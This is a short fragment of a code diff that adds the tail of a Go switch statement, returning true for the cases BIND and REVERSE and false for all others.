+	case BIND:
+		return true
+	case REVERSE:
+		return true
+	default:
+		return false
+	}
+}